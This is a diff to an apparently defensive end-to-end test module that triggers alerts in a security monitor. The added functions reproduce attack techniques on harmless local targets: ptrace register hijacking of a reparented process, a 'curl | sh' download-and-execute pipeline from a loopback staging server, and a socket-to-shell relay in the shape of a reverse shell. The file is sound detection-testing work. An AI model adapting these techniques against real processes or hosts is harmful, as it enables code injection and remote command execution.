@@ -2,7 +2,9 @@
 
 ``python -m tests.e2e.triggers NAME`` runs one; the process's own pid is what the alert
 names (the tracer/writer, or the memfd exec which keeps its pid). Only harmless targets:
-a forked child of the trigger itself, anonymous memory, copies of /bin/true.
+an orphaned grandchild of the trigger (reparented, so no longer its descendant: the shape
+of injecting into a running process one did not start), anonymous memory, copies of
+/bin/true.
 """
 
 from __future__ import annotations
@@ -11,9 +13,11 @@ import ctypes
 import os
 import shutil
 import signal
+import socket
 import subprocess
 import sys
 import tempfile
+import threading
 import time
 
 libc = ctypes.CDLL(None, use_errno=True)
@@ -32,7 +36,7 @@ libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_v
 
 PROT_READ, PROT_WRITE, PROT_EXEC = 1, 2, 4
 MAP_PRIVATE, MAP_ANONYMOUS = 0x02, 0x20
-PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 5, 16, 17
+PTRACE_POKEDATA, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 5, 12, 13, 16, 17
 
 
 class IoVec(ctypes.Structure):
@@ -65,17 +69,44 @@ def dev_shm() -> None:
 
 
 def _child_with_buffer() -> tuple[int, ctypes.Array[ctypes.c_char]]:
-    buf = ctypes.create_string_buffer(64)  # same address in the forked child
-    pid = os.fork()
-    if pid == 0:
-        time.sleep(30)
+    """A victim process with ``buf`` at the same address, detached from the trigger's tree
+    (double fork: its parent exits and it is reparented)."""
+    buf = ctypes.create_string_buffer(64)  # same address in the forked processes
+    r, w = os.pipe()
+    mid = os.fork()
+    if mid == 0:
+        victim = os.fork()
+        if victim == 0:
+            os.close(r)
+            os.close(w)
+            time.sleep(30)
+            os._exit(0)
+        os.write(w, str(victim).encode())
         os._exit(0)
+    os.close(w)
+    pid = int(os.read(r, 32))
+    os.close(r)
+    os.waitpid(mid, 0)
+    while os.getpid() in _parents(pid):  # wait until the victim is reparented
+        time.sleep(0.01)
+    time.sleep(0.05)
     return pid, buf
+
+
+def _parents(pid: int) -> list[int]:
+    out: list[int] = []
+    while pid > 1 and len(out) < 64:
+        try:
+            with open(f"/proc/{pid}/stat") as f:
+                pid = int(f.read().rsplit(")", 1)[1].split()[1])
+        except OSError:
+            break
+        out.append(pid)
+    return out
 
 
 def _reap(pid: int) -> None:
     os.kill(pid, signal.SIGKILL)
-    os.waitpid(pid, 0)
 
 
 def ptrace() -> None:
@@ -87,6 +118,90 @@ def ptrace() -> None:
         libc.ptrace(PTRACE_DETACH, pid, None, None)
     finally:
         _reap(pid)
+
+
+def setregs() -> None:
+    """Register-only hijack: no POKE at all (an attacker would point rip at mapped code)."""
+    pid, _buf = _child_with_buffer()
+    regs = ctypes.create_string_buffer(27 * 8)  # struct user_regs_struct (x86_64)
+    try:
+        _check(libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0, "PTRACE_ATTACH")
+        os.waitpid(pid, 0)
+        _check(libc.ptrace(PTRACE_GETREGS, pid, None, regs) == 0, "PTRACE_GETREGS")
+        _check(libc.ptrace(PTRACE_SETREGS, pid, None, regs) == 0, "PTRACE_SETREGS")
+        libc.ptrace(PTRACE_DETACH, pid, None, None)
+    finally:
+        _reap(pid)
+
+
+def _slow_server(body: bytes) -> int:
+    """A loopback staging server in a thread that sends ``body`` slowly; returns its port."""
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(1)
+
+    def serve() -> None:
+        conn, _ = srv.accept()
+        with conn:
+            conn.recv(4096)
+            conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body[:8])
+            time.sleep(1.0)
+            conn.sendall(body[8:])
+        srv.close()
+
+    threading.Thread(target=serve, daemon=True).start()
+    return int(srv.getsockname()[1])
+
+
+def curl_sh() -> None:
+    """curl | sh with curl copied to a random name, the pipeline built by this process."""
+    d = tempfile.mkdtemp(prefix="mt-e2e-")
+    x1 = os.path.join(d, "x1")
+    shutil.copy2("/usr/bin/curl", x1)
+    try:
+        port = _slow_server(b"# stage\nsleep 1; echo mt-e2e-curl-sh\n")
+        dl = subprocess.Popen([x1, "-s", f"http://127.0.0.1:{port}/s.sh"], stdout=subprocess.PIPE)
+        sh = subprocess.Popen(["/bin/sh"], stdin=dl.stdout, stdout=subprocess.DEVNULL)
+        assert dl.stdout is not None
+        dl.stdout.close()
+        _check(sh.wait(30) == 0 and dl.wait(30) == 0, "curl | sh")
+    finally:
+        shutil.rmtree(d)
+
+
+def pipe_relay() -> None:
+    """A relay that holds the connection and pipes to a shell (no socket on the shell's fds)."""
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(1)
+    got: list[bytes] = []
+
+    def operator() -> None:
+        conn, _ = srv.accept()
+        with conn:
+            time.sleep(0.5)
+            conn.sendall(b"echo mt-e2e-relay\nexit\n")
+            got.append(conn.recv(4096))
+
+    t = threading.Thread(target=operator, daemon=True)
+    t.start()
+    s = socket.create_connection(srv.getsockname())
+    sh = subprocess.Popen(
+        ["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
+    )
+    assert sh.stdin is not None and sh.stdout is not None
+    for line in s.makefile("rb"):
+        sh.stdin.write(line)
+        sh.stdin.flush()
+        if line.strip() == b"exit":
+            break
+    sh.stdin.close()
+    s.sendall(sh.stdout.read())
+    sh.wait()
+    t.join(10)
+    s.close()
+    srv.close()
+    _check(bool(got) and b"mt-e2e-relay" in got[0], "relay")
 
 
 def vm_writev() -> None:
@@ -141,6 +256,9 @@ TRIGGERS = {
     "memfd": memfd,
     "dev_shm": dev_shm,
     "ptrace": ptrace,
+    "setregs": setregs,
+    "curl_sh": curl_sh,
+    "pipe_relay": pipe_relay,
     "vm_writev": vm_writev,
     "proc_mem": proc_mem,
     "mmap_wx": mmap_wx,
